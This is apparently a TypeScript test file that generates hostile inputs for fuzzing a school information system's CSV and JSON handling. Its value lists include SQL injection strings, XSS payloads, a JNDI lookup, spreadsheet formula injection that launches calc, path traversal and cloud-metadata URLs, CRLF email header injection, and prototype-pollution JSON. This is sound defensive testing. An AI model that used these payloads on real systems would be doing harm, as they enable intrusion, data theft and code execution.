/** Test-only: what a field of a SIS holds that means no good, or was never looked at by anybody. */
import fc from "fast-check";

/** In every hostile text, so that it is found wherever it should not be. */
export const sign = "Zqv";

const of = (...texts: readonly string[]) => fc.constantFrom(...texts);

const controls = fc.string({
  unit: fc.constantFrom(..."\0\u0001\u0007\b\t\n\v\f\r\u001b\u001f\u007f\u0080\u0085\u009f".split(""), "a", " "),
  maxLength: 20,
});
const surrogates = fc.string({
  unit: fc.constantFrom("\ud800", "\udbff", "\udc00", "\udfff", "😀", "a", "\ufffe", "\uffff"),
  maxLength: 12,
});
const unseen = fc.string({
  unit: fc.constantFrom(
    ..."\u00a0\u00ad\u034f\u061c\u115f\u1160\u180e\u200b\u200d\u200f\u2028\u202e\u2066\u3000\u3164\ufe0f\ufeff".split(""),
    "x",
  ),
  maxLength: 20,
});
const long = fc
  .tuple(of("x", "é", "漢", "😀", "Z̸̧̛̗͓̳̈́", " ", ",", "9", "<b>", "'", '"', "\\"), fc.constantFrom(255, 256, 300, 2_000, 9_000))
  .map(([text, length]) => text.repeat(Math.ceil(length / text.length)));
const veryLong = fc.constantFrom("v".repeat(60_000), "ü".repeat(30_000), "=".repeat(60_000));
const numbers = of("NaN", "-Infinity", "1e309", "-0", "0x10", "9007199254740993", "1_000", "１２", "٣", "1,5", "-1", "1e-400", "00");
const prototypes = of(
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "__defineGetter__",
  "prototype",
  "then",
  "toJSON",
);
const sql = of(
  ...["'; drop table accounts; --", "' or '1'='1", "\\'; select pg_sleep(60); --", "$1", "$$", "%", "_", "\\", "?", ":id"],
  ...["\\N", "\\.", "{}", '{"a",NULL}', "NULL", "null", "(,)", "default", "E'\\\\x00'", "/*", "*/", "--", "\\x00", "now()"],
);
const markup = of(
  ...["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg/onload=alert(1)>", "&lt;b&gt;", "&#0;", "<!--"],
  ...["javascript:alert(1)", "data:text/html,x", "{{7*7}}", "\u0024{jndi:ldap://elsewhere.example/x}", "%s%n%x", "]]>", "\u003cb"],
);
/** In all widths, with what some spreadsheets pass over before them. */
const formulas = fc
  .tuple(
    of("", " ", "\u200b", "\ufeff", "'", '"'),
    of("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫"),
    of("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://elsewhere.example","x")', "SUM(A1:A9)", "a@lakeside.example", "=1", ""),
  )
  .map((parts) => parts.join(""));
const dates = of(
  ...["0000-00-00", "9999-12-31", "275760-09-13", "-0001-01-01", "2026-02-30", "2026-13-01", "infinity", "epoch", "today"],
  ...["0044-03-15 BC", "2026-08-15T99:99:99Z", "15/08/2026", "2026-08-15\0"],
);
const words = of(
  ...["student,teacher", "STUDENT", "administrator", "tobedeleted", "Active", "district", "school", "homeroom", "true", "yes", "guardian"],
);
const addresses = of(
  ...["a@b@c.example", "@", "a@[127.0.0.1]", `${"x".repeat(65)}@y.example`, "é@ü.example", "=x@lakeside.example", "+x@lakeside.example"],
  ...["-x@lakeside.example", "a@\u202elakeside.example", "a@lakeside.example\r\nbcc: b@c.example", '"a b"@lakeside.example'],
);
const places = of("../../etc/passwd", "file:///etc/passwd", "http://169.254.169.254/", "\\\\host\\share", "C:\\x", "//x", "a/../b", ".");

/** Texts of every kind. */
export const hostileText: fc.Arbitrary<string> = fc
  .tuple(
    fc.oneof(
      ...[controls, surrogates, unseen, numbers, prototypes, sql, markup, formulas, formulas, dates, words, addresses, places],
      { weight: 3, arbitrary: long },
      { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    ),
    fc.constantFrom(sign, "", ""),
  )
  .map((parts) => parts.join(""));

const literalText = hostileText.map((text) => JSON.stringify(text));
const odd = of(
  ...["null", "true", "false", "0", "-0", "1e400", "-1e400", "1e-400", "0.1", "123456789012345678901234567890", "1.7976931348623157e308"],
  ...["[]", "{}", "[[]]", "[null]", "[{}]", '[1,null,{"a":[]},"x"]', '{"sourcedId":{"sourcedId":"x"}}', '{"sourcedId":null}'],
  ...['{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"polluted":true}}}', '{"toString":1}', '{"length":1e9}'],
  ...[`${"[".repeat(40)}${"]".repeat(40)}`, `${'{"a":'.repeat(40)}1${"}".repeat(40)}`, `[${"1,".repeat(500)}1]`, '""', '" "'],
);
const several = fc.array(literalText, { minLength: 1, maxLength: 6 }).map((items) => `[${items.join()}]`);
const inside = fc
  .tuple(of("sourcedId", "first", "school", "__proto__", "schools", "href"), literalText)
  .map(([name, text]) => `{"${name}":${text}}`);

/** What stands in JSON behind a name, as text: also what no object of JavaScript could be written as. */
export const hostileLiteral: fc.Arbitrary<string> = fc.oneof(
  { weight: 60, arbitrary: literalText },
  { weight: 14, arbitrary: odd },
  { weight: 8, arbitrary: several },
  { weight: 8, arbitrary: inside },
  { weight: 1, arbitrary: veryLong.map((text) => JSON.stringify(text)) },
);

/** What stands in a cell of CSV: no NUL, at which a whole file is refused, and no half of a surrogate, which UTF-8 has not. */
export const hostileCell: fc.Arbitrary<string> = fc
  .oneof({ weight: 60, arbitrary: hostileText }, { weight: 1, arbitrary: veryLong })
  .map((text) => text.replaceAll("\0", "").toWellFormed());
